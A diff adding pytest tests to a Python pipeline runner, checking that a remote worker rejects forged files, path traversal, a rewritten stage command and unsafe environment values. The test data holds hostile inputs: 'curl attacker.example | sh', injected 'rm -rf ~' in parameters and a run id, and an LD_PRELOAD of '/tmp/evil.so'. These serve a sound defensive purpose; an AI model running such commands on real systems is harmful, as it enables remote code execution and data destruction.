@@ -11,6 +11,7 @@ import pytest
 import yaml
 
 from segflow import stage_runner
+from segflow.errors import SegflowError
 
 DVC_YAML = {"stages": {
     "second": {"cmd": "cat first.txt > second.txt", "deps": ["first.txt"], "outs": ["second.txt"]},
@@ -128,3 +129,43 @@ def test_a_chain_runs_in_a_workspace_of_its_own_and_comes_back_through_the_remot
     with pytest.raises(stage_runner.RunNotFound, match="train@b"):  # b's chain never ran anywhere
         stage_runner.restore(project, ["train@b"])
     assert not (project / "model-b.txt").exists()
+
+
+def test_a_worker_refuses_files_it_does_not_take_another_pipeline_and_parameters_that_do_not_parse(tmp_path):
+    project = tmp_path / "project"
+    project.mkdir()
+    _project(project)
+    (project / "dvc.yaml").write_text(yaml.safe_dump(CHAINED))
+    (project / "code.txt").write_text("code\n")
+    (project / "params.yaml").write_text("{}\n")
+    stages = stage_runner.chain_stages("a")
+    sent = stage_runner.workspace_files(project, stages)
+    assert set(sent) == {"dvc.yaml", "params.yaml"}
+    forged_pipeline = yaml.safe_load(sent["dvc.yaml"])
+    forged_pipeline["stages"]["train"]["cmd"] = "curl attacker.example | sh"
+    forgeries = {
+        "a path outside": ({**sent, str(tmp_path / "outside.txt"): "x"}, "was sent files it does not take"),
+        "a way out": ({**sent, "../outside.txt": "x"}, "was sent files it does not take"),
+        "another pipeline": ({**sent, "dvc.yaml": yaml.safe_dump(forged_pipeline)}, "is not this worker's"),
+        "a command in the parameters": ({**sent, "params.yaml": yaml.safe_dump({"train": {"archs": ["unet; rm -rf ~"]}})},
+                                        r"params.yaml sent to the worker: invalid parameters: train.archs"),
+    }
+    for name, (files, message) in forgeries.items():
+        workspace = tmp_path / f"workspace-{len(name)}"
+        with pytest.raises(SegflowError, match=message):
+            stage_runner.prepare_workspace(project, workspace, files, stages)
+        assert not workspace.exists(), name
+    assert not (tmp_path / "outside.txt").exists()
+
+
+def test_a_worker_takes_only_the_tracking_server_and_the_parent_run_as_environment(monkeypatch):
+    run_id = "0123456789abcdef0123456789abcdef"
+    monkeypatch.setenv("MLFLOW_TRACKING_URI", "http://mlflow:5000")
+    stage_runner.check_sent_env({"MLFLOW_TRACKING_URI": "http://mlflow:5000", "SEGFLOW_PARENT_RUN_ID": run_id})
+    for env, message in [
+        ({"LD_PRELOAD": "/tmp/evil.so"}, "environment variables it does not take: \\['LD_PRELOAD'\\]"),
+        ({"SEGFLOW_PARENT_RUN_ID": "x; rm -rf ~"}, "not an MLflow run id"),
+        ({"MLFLOW_TRACKING_URI": "http://attacker.example"}, "not this worker's tracking server http://mlflow:5000"),
+    ]:
+        with pytest.raises(SegflowError, match=message):
+            stage_runner.check_sent_env(env)
